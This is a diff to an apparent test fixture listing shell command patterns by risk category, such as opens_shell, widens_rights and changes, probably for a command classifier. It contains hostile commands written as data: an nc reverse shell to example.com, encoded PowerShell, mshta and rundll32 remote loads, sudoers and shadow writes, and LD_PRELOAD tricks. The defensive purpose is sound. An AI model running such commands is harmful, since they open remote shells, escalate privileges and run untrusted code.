@@ -141,13 +141,13 @@ pipx run cowsay
 yarn ‹dlx create exec x› cowsay
 uv tool run cowsay
 deno ‹run install eval› https://example.com/x.ts
-‹pip pip3 npm gem brew uv poetry pnpm yarn bun cargo› install git+https://example.com/x.git
-pip ‹install add i pip› git+https://example.com/x.git
+‹pip pip3 npm gem brew poetry pnpm yarn bun cargo› install git+https://example.com/x.git
+pip ‹install add i› git+https://example.com/x.git
 ‹python python3› -m pip install git+https://example.com/x.git
 cargo install --git https://example.com/x
-‹pip pip3 uv poetry npm› install --index-url $MIRROR x
-pip ‹install add i pip› --index-url $MIRROR x
-pip install ‹-i --index-url --extra-index-url --registry --find-links› $MIRROR x
+‹pip pip3 uv poetry› install --index-url $MIRROR x
+pip ‹install add pip› --index-url $MIRROR x
+pip install ‹-i --index-url --extra-index-url --find-links› $MIRROR x
 go run example.com/x/cmd@latest
 ‹kubectl oc› apply -f https://example.com/x.yaml
 kubectl ‹apply create replace› -f https://example.com/x.yaml
@@ -161,6 +161,8 @@ docker ‹run create› -v /:/host tool
 powershell ‹-enc -e -ec -encodedcommand -EncodedCommand -Enc -E› SQBFAFgA
 ‹mshta regsvr32 rundll32› http://example.com/x.hta
 ‹insmod modprobe› ./x.ko
+uv ‹pip add› git+https://example.com/x.git
+npm ‹install i add› --registry $MIRROR x
 ## opens_shell
 ‹nc ncat netcat› -e /bin/sh example.com 4444
 nc ‹-e -c --exec --sh-exec› /bin/sh example.com 4444
@@ -175,7 +177,7 @@ apt-get ‹install add upgrade dist-upgrade› -y jq
 ‹pip pip3 pipx gem cargo go conda› install ripgrep
 cargo ‹install add update upgrade› ripgrep
 ‹npm pnpm yarn bun poetry composer bundle helm uv› install left-pad
-npm ‹install i ci add require update upgrade sync› left-pad
+npm ‹install i ci add update upgrade› left-pad
 ‹yarn bundle poetry›
 dotnet ‹add tool› package x
 uv ‹pip tool› install x
@@ -187,6 +189,8 @@ go get example.com/x
 dpkg ‹-i -U --install› x.deb
 pacman ‹-S -U› vim
 ‹make ninja cmake› install
+composer ‹require sync› x
+‹poetry composer bundle helm uv› add x
 ## widens_rights
 chmod ‹777 666 702 0777 4755 2755 o+w a+w a+rw o=rw go+w ugo+rwx u+s +s g+s› x
 echo x >> /etc/‹sudoers sudoers.d/x passwd shadow group gshadow pam.d/x doas.conf security/x›
@@ -265,12 +269,13 @@ sed -i 's/a/b/' ~/.bashrc
 ssh-copy-id bob@web1
 pm2 ‹startup save›
 ## changes
-‹curl wget› -d x=1 http://localhost/a
-curl ‹-d --data --data-raw --data-binary --data-urlencode --json -F --form -T --upload-file --post-data --post-file› x=1 http://localhost/a
+curl -d x=1 http://localhost/a
+curl ‹-d --data --data-raw --data-binary --data-urlencode --json -F --form -T --upload-file› x=1 http://localhost/a
 curl -X ‹POST PUT PATCH› http://localhost/a
 curl ‹-XPOST -XPUT -XPATCH› http://localhost/a
 ‹ip route ifconfig arp› x ‹add del delete set flush change replace up down›
-‹timedatectl hostnamectl loginctl› set-hostname web
+‹timedatectl hostnamectl› set-hostname web
+wget ‹--post-data --post-file› x=1 http://localhost/a
 ## unreadable
 ‹LD_PRELOAD=x BASH_ENV=x PROMPT_COMMAND=x› ls
 sed 's/a/b/e' f
